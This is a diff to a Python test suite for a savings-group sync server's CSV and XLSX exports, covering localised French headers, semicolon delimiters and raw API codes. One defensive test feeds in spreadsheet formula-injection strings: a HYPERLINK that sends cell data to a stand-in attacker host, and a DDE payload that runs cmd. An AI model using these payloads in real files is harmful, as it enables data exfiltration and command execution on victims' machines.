@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import html
 import io
 import json
@@ -221,20 +222,41 @@ def test_exports_read_back(w: World, admin: TestClient) -> None:
     sheet = load_workbook(io.BytesIO(xlsx.content)).active
     rows = list(sheet.iter_rows(values_only=True))
     count = w.kiosks["K01"].store.conn.execute("SELECT COUNT(*) FROM p_transactions").fetchone()[0]
-    assert rows[0][:4] == ("kiosk_id", "group", "seq", "date") and len(rows) == count + 1
+    assert sheet.title == "Mouvements" and len(rows) == count + 1
+    words = ("Kiosque", "Groupe", "N° d'événement", "Date", "Séance n°", "Nature", "Caisse", "Montant (F)")
+    assert rows[0][:8] == words
+    assert {r[5] for r in rows[1:]} >= {"cotisation", "prêt", "remboursement"}
+    assert {r[6] for r in rows[1:]} <= {"Caisse verte", "Caisse rouge", "Caisse bleue"}
+    assert {r[11] for r in rows[1:]} == {"oui", "non"} and all(isinstance(r[7], int) for r in rows[1:])
     members = admin.get("/exports/members.csv").text.lstrip("\ufeff").splitlines()
     assert len(members) == 1 + sum(
         w.kiosks[k].store.conn.execute("SELECT COUNT(*) FROM p_members").fetchone()[0] for k in ("K01", "K02")
     )
     ranged = admin.get("/exports/meetings.csv?from=2026-06-01&to=2026-06-30").text.splitlines()
     assert all("2026-06-" in line for line in ranged[1:]) and len(ranged) > 4
+    assert all(line.split(";")[4] == "clôturée" for line in ranged[1:])
     bad = admin.get("/exports/meetings.csv?from=June")
     assert bad.status_code == 400 and "AAAA-MM-JJ" in bad.text
 
 
-def test_exported_text_never_runs_as_a_spreadsheet_formula() -> None:
-    import csv
+def test_files_are_in_the_reader_s_words_and_the_api_s_in_codes(w: World, admin: TestClient) -> None:
+    # A French spreadsheet opens a comma-separated file in one column, and reads 66.7 as text.
+    fr = list(csv.reader(io.StringIO(admin.get("/exports/members.csv").text.lstrip("\ufeff")), delimiter=";"))
+    assert fr[0][:6] == ["Kiosque", "Groupe", "N°", "Nom", "Sexe", "Rôle"]
+    assert {r[5] for r in fr[1:]} >= {"président·e", "trésorier·e", "membre"} and {r[4] for r in fr[1:]} <= {"F", "H"}
+    assert {r[9] for r in fr[1:]} <= {"oui", "non"} and "oui" in {r[9] for r in fr[1:]}
+    en = _as(w, "admin", "en").get("/exports/loans.csv").text.lstrip("\ufeff")
+    rows = list(csv.reader(io.StringIO(en)))
+    assert rows[0][:8] == ["Kiosk", "Group", "Member no.", "Member", "Kind", "Fund", "Principal (F)", "PAF method"]
+    assert {r[4] for r in rows[1:]} <= {"loan", "aid loan"} and {r[18] for r in rows[1:]} >= {"active", "repaid"}
+    # The API's files are for programs: identifiers and raw codes, whatever the language.
+    api = admin.get("/v1/console/exports/members?format=csv", headers=token(admin, "admin"))
+    raw = list(csv.reader(io.StringIO(api.text.lstrip("\ufeff"))))
+    assert raw[0][:6] == ["kiosk_id", "group", "number", "name", "sex", "role"]
+    assert {r[5] for r in raw[1:]} >= {"president", "tresorier", "membre"} and {r[9] for r in raw[1:]} == {"True"}
 
+
+def test_exported_text_never_runs_as_a_spreadsheet_formula() -> None:
     from sync_server.web.exports import csv_chunks, xlsx_bytes
 
     names = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "Afi"]
@@ -342,9 +364,9 @@ def test_a_member_owes_aid_loans_too_and_a_loan_no_longer_running_owes_nothing(w
         owed = sum(r["principal"] - r["principal_paid"] for r in kiosk.store.query(active, (member,)))
         number = kiosk.member(member)["number"]
         rows = admin.get("/exports/members.csv").text.removeprefix("\ufeff").splitlines()
-        header = rows[0].split(",")
-        mine = next(r.split(",") for r in rows[1:] if r.split(",")[0] == "K01" and r.split(",")[2] == str(number))
-        assert int(mine[header.index("loans_outstanding")]) == owed
+        header = rows[0].split(";")
+        mine = next(r.split(";") for r in rows[1:] if r.split(";")[0] == "K01" and r.split(";")[2] == str(number))
+        assert int(mine[header.index("Prêts restant dus (F)")]) == owed
     loan = dict(kiosk.store.query("SELECT * FROM p_loans LIMIT 1")[0])
     for status in ("cancelled", "repaid"):
         figures = standing(loan | {"status": status}, TODAY)
